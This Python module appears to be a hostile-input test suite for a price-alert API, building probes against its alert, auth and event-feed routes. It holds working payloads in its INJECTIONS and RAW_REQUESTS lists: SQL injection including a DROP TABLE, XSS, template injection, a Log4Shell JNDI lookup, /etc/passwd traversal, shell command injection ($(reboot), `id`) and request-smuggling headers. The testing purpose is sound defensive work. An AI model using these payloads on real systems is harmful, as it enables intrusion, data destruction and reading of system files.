"""A hand-written list of hostile requests: huge and broken bodies, wrong types, injections, odd ids and tokens."""

from __future__ import annotations

from typing import Any

from chaos.hostile_tokens import GOOD, Probe, credentials

INJECTIONS = [
    "' OR '1'='1",
    "BTCUSDT'; DROP TABLE alerts;--",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "../../../../etc/passwd",
    "%00",
    "\u0000",
    "\\u0000",
    "$(reboot)",
    "`id`",
    "*",
    "?",
    "%s%s%s%n",
    "\u202egnp.exe",
    "\uff22\uff34\uff23\uff35\uff33\uff24\uff34",
    "btc\u200busdt",
    "🚀" * 50,
    "a" * 10_000,
    "İstanbul",
    "\ud7ff\ue000",
]
NUMBERS: list[Any] = [
    "1e999999",
    "9" * 5000,
    1e308,
    -1,
    0,
    "-0",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "1_000",
    "1e-999999",
    "0.000000000000000000000000001",
    10**400,
    "1,5",
    " 100 ",
    "",
    True,
    None,
    [],
    {},
]
WRONG: list[Any] = [None, True, 123, 1.5, [], {}, ["BTCUSDT"], {"$gt": ""}, "x" * 100_000]


def probes(alert_id: str, user_id: str, public_pem: str | None, kid: str | None) -> list[Probe]:
    """Every hostile request of the list."""
    return [*bodies(), *fields(user_id), *identifiers(alert_id), *feed(), *credentials(public_pem, kid)]


def feed() -> list[Probe]:
    """The live feed's resume id and ticket, as query parameters and as the Last-Event-ID header."""
    values = [*INJECTIONS, "0", "-1", "0-0", "1-", "-1-1", "99999999999999999999-0", "1-99999999999999999999"]
    out: list[Probe] = []
    for value in values:
        out.append(Probe(f"GET /events?last_event_id={value[:30]}", "GET", "/events", params={"last_event_id": value}))
        out.append(Probe(f"GET /events Last-Event-ID {value[:30]}", "GET", "/events", headers={"Last-Event-ID": value}))
        out.append(Probe(f"GET /events?ticket={value[:30]}", "GET", "/events", params={"ticket": value}, auth=False))
    out.append(Probe("POST /events/ticket with a body", "POST", "/events/ticket", json_body={"user_id": "admin"}))
    return out


def bodies() -> list[Probe]:
    """Huge, broken and oddly typed bodies on every POST route."""
    out: list[Probe] = []
    for path in (
        "/alerts",
        "/alerts/create",
        "/auth/register",
        "/auth/login",
        "/auth/refresh",
        "/auth/logout",
        "/auth/users",
        "/auth/verify",
        "/auth/verify/resend",
    ):
        out.append(
            Probe(
                f"{path} 2 MB body",
                "POST",
                path,
                content=b'{"a":"' + b"x" * 2_000_000 + b'"}',
                headers={"content-type": "application/json"},
            )
        )
        out.append(
            Probe(
                f"{path} 70 KB body",
                "POST",
                path,
                content=b'{"name":"' + b"y" * 70_000 + b'"}',
                headers={"content-type": "application/json"},
            )
        )
        for raw in (
            b'{"symbol": ',
            b"\xff\xfe\x00",
            b"null",
            b"[]",
            b'"s"',
            b"{}",
            b"1e999999",
            b'{"a":' * 5000,
            b"[" * 10_000,
            b'{"symbol":"BTCUSDT","symbol":"ETHUSDT"}',
            b"\x00" * 100,
        ):
            out.append(
                Probe(
                    f"{path} bad JSON {raw[:20]!r}",
                    "POST",
                    path,
                    content=raw,
                    headers={"content-type": "application/json"},
                )
            )
        out.append(
            Probe(
                f"{path} wrong content type",
                "POST",
                path,
                content=b"symbol=BTCUSDT&target_price=1",
                headers={"content-type": "text/plain; charset=utf-16"},
            )
        )
        out.append(
            Probe(
                f"{path} multipart junk",
                "POST",
                path,
                content=b"--x\r\n\r\n--x--",
                headers={"content-type": "multipart/form-data; boundary=x"},
            )
        )
    return out


def fields(user_id: str) -> list[Probe]:
    """Wrong types, injections, odd numbers and dates in every field."""
    out: list[Probe] = []
    good = GOOD
    for name in ("symbol", "target_price", "condition", "name", "expires_at"):
        for value in [*WRONG, *INJECTIONS, *(NUMBERS if name == "target_price" else [])]:
            out.append(Probe(f"/alerts {name}={str(value)[:30]!r}", "POST", "/alerts", {**good, name: value}))
    for value in [
        "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00Z",
        "2030-02-30T00:00:00Z",
        "2030-01-01T00:00:00+25:00",
        "yesterday",
        1e20,
        -1,
        "2030-01-01T00:00:00.9999999999999Z",
    ]:
        out.append(Probe(f"/alerts expires_at={value!r}", "POST", "/alerts", {**good, "expires_at": value}))
    out.append(Probe("/alerts extra field", "POST", "/alerts", {**good, "user_id": user_id, "status": "triggered"}))
    for field_name in ("email", "password", "username"):
        for value in [*WRONG, *INJECTIONS]:
            body = {"email": "hostile@example.com", "password": "hostile-password", field_name: value}
            out.append(
                Probe(f"/auth/register {field_name}={str(value)[:30]!r}", "POST", "/auth/register", body, auth=False)
            )
            out.append(Probe(f"/auth/login {field_name}={str(value)[:30]!r}", "POST", "/auth/login", body, auth=False))
    for value in [*WRONG, *INJECTIONS]:
        out.append(
            Probe(f"/auth/verify token={str(value)[:30]!r}", "POST", "/auth/verify", {"token": value}, auth=False)
        )
        out.append(
            Probe(
                f"/auth/verify/resend email={str(value)[:30]!r}",
                "POST",
                "/auth/verify/resend",
                {"email": value},
                auth=False,
            )
        )
        if isinstance(value, str):
            out.append(
                Probe(
                    f"GET /auth/verify?token={value[:30]!r}", "GET", "/auth/verify", params={"token": value}, auth=False
                )
            )
        out.append(Probe(f"/auth/refresh token={str(value)[:30]!r}", "POST", "/auth/refresh", {"refresh_token": value}))
        out.append(Probe(f"/auth/logout token={str(value)[:30]!r}", "POST", "/auth/logout", {"refresh_token": value}))
    out.append(
        Probe(
            "/auth/login form injection",
            "POST",
            "/auth/login",
            content=b"username='--&password[]=x&x=%00",
            headers={"content-type": "application/x-www-form-urlencoded"},
            auth=False,
        )
    )
    return out


def identifiers(alert_id: str) -> list[Probe]:
    """Path traversal, injections and junk in ids and query parameters."""
    out: list[Probe] = []
    ids = [
        "../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2f",
        "' OR 1=1--",
        "%00",
        "0",
        "-1",
        "99999999999999999999999999",
        "a" * 5000,
        "%F0%9F%9A%80",
        "%ff%fe",
        "null",
        "00000000-0000-0000-0000-000000000000",
        alert_id.upper(),
        alert_id + "x",
        "{id}",
        "..;/",
        "%252e%252e%252f",
    ]
    for ident in ids:
        for method in ("GET", "DELETE"):
            out.append(Probe(f"{method} /alerts/{ident[:30]}", method, f"/alerts/{ident}"))
            out.append(Probe(f"{method} /alerts/delete/{ident[:30]}", "DELETE", f"/alerts/delete/{ident}"))
        out.append(Probe(f"GET /auth/users/{ident[:30]}", "GET", f"/auth/users/{ident}"))
        out.append(Probe(f"PATCH /auth/users/{ident[:30]}", "PATCH", f"/auth/users/{ident}", {"is_active": False}))
    for params in (
        {"page": "-1"},
        {"page": "0"},
        {"page": "1e10"},
        {"page": "9" * 400},
        {"page_size": "100000"},
        {"page_size": "-5"},
        {"status": "' OR 1=1--"},
        {"status": "triggered'"},
        {"symbol": "%00"},
        {"symbol": "a" * 5000},
        {"page": "NaN"},
        {"page_size": "1.5"},
        {"status": ["active", "x"]},
    ):
        out.append(Probe(f"GET /alerts {params}", "GET", "/alerts", params=params))  # type: ignore[arg-type]  # hostile query values of every type
        out.append(Probe(f"GET /auth/users {params}", "GET", "/auth/users", params=params))  # type: ignore[arg-type]  # hostile query values of every type
    return out


RAW_REQUESTS: list[bytes] = [
    b"GET /alerts HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    b"POST /alerts HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST /auth/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZZ\r\nabc\r\n0\r\n\r\n",
    b"GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /alerts HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 100_000 + b"\r\n\r\n",
    b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + b"\x00" * 64,
    b"GET / HTTP/9.9\r\n\r\n",
    b"GARBAGE\r\n\r\n",
    b"GET /alerts?" + b"a=1&" * 20_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    b'POST /alerts HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"a":',
]
